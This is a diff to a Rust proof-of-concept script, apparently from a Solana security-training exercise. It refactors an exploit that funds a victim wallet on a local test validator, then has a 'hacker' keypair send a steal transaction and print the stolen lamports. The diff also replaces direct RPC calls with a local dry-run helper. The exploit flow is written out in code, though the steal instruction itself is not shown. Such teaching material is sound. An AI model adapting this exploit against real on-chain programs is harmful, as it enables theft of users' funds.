@@ -20,6 +20,8 @@ use borsh::{BorshSerialize, BorshDeserialize};
 
 use owo_colors::OwoColorize;
 
+use actors::Actors;
+
 #[derive(Debug, BorshDeserialize, BorshSerialize)]
 
 pub enum WalletInstruction {
@@ -35,24 +37,18 @@ fn main() {
     let programa_keypair = read_keypair_file("./target/so/level1-keypair.json").unwrap();
     let programa = programa_keypair.pubkey();
 
-    let cliente1 = String::from("http://localhost:8899");
+    let cliente1 = dryrun::url();
 
     //let payer = Keypair::new();
-    let authority = Keypair::new();
+    let mut actors = Actors::new();
+    // Not the PoC's victim: its Wallet PDA would already be initialized when both run
+    let authority = actors.get("victim-native");
+    let hacker = actors.get("hacker");
 
     let env = RpcClient::new_with_commitment(cliente1, CommitmentConfig::confirmed());
+    println!("{}", actors.legend().blue());
 
-    match env.request_airdrop(&authority.pubkey(), LAMPORTS_PER_SOL) {
-        Ok(sig) => loop {
-            if let Ok(confirmed) = env.confirm_transaction(&sig) {
-                if confirmed {
-                    println!("Transaction: {} Status: {}", sig, confirmed);
-                    break;
-                }
-            }
-        },
-        Err(_) => println!("Error requesting airdrop"),
-    };
+    dryrun::airdrop(&env, &authority.pubkey(), LAMPORTS_PER_SOL);
 
     let (wallet_address, _) =
     Pubkey::find_program_address(&[&authority.pubkey().to_bytes()], &programa);
@@ -91,7 +87,7 @@ fn main() {
         recent_blockhash,
     );
         
-    env.send_and_confirm_transaction(&tx_init).unwrap();
+    dryrun::send(&env, &tx_init);
 
     let t_amount = 1000000u64;
 
@@ -113,7 +109,7 @@ fn main() {
         recent_blockhash,
     );
         
-    env.send_and_confirm_transaction(&tx_deposit).unwrap();
+    dryrun::send(&env, &tx_deposit);
     println!("{} {:?} {}",
     "Paying.....".purple().bold(), t_amount.purple(), " lamports".purple().bold());
 
@@ -122,22 +118,11 @@ fn main() {
     */
     println!("");
     println!("{}", "Stealing lamports....".purple().bold());
-    let hacker = Keypair::new();
     
-    match env.request_airdrop(&hacker.pubkey(), rent_exemption_amount) {
-        Ok(sig) => loop {
-            if let Ok(confirmed) = env.confirm_transaction(&sig) {
-                if confirmed {
-                    println!("Transaction: {} Status: {}", sig, confirmed);
-                    break;
-                }
-            }
-        },
-        Err(_) => println!("Error requesting airdrop"),
-    };
+    dryrun::airdrop(&env, &hacker.pubkey(), rent_exemption_amount);
 
-    let wall_before = env.get_account(&wallet_address).unwrap().lamports;
-    let hacker_before = env.get_account(&hacker.pubkey()).unwrap().lamports;
+    let wall_before = dryrun::get_account(&env, &wallet_address).unwrap().lamports;
+    let hacker_before = dryrun::get_account(&env, &hacker.pubkey()).unwrap().lamports;
 
 
     /*
@@ -164,18 +149,18 @@ fn main() {
         recent_blockhash,
     );
         
-    env.send_and_confirm_transaction(&tx_steal).unwrap();
+    dryrun::send(&env, &tx_steal);
 
     println!("");
-    if hacker_before < (env.get_account(&hacker.pubkey()).unwrap().lamports) {
+    if hacker_before < (dryrun::get_account(&env, &hacker.pubkey()).unwrap().lamports) {
         println!("{} {} {}" ,"***HAXXX****".green().bold(),
-        "Stolen lamports: ".purple(), env.get_account(&hacker.pubkey()).unwrap().lamports - hacker_before)
+        "Stolen lamports: ".purple(), dryrun::get_account(&env, &hacker.pubkey()).unwrap().lamports - hacker_before)
     } else { print!("Something went wrong..... :(") }
     println!("");
-    let w_info = env.get_account(&wallet_address);
+    let w_info = dryrun::get_account(&env, &wallet_address);
     match w_info {
-        Ok(_) => println!("Wallet info: {:?}", w_info.unwrap()),
-        Err(error) => println!("The Account: {}, does't exist anymore: {:?}",wallet_address.blue(), error.red().bold()),
+        Some(info) => println!("Wallet info: {:?}", info),
+        None => println!("The Account: {}, does't exist anymore",wallet_address.blue()),
     };
     println!("");
 }
\ No newline at end of file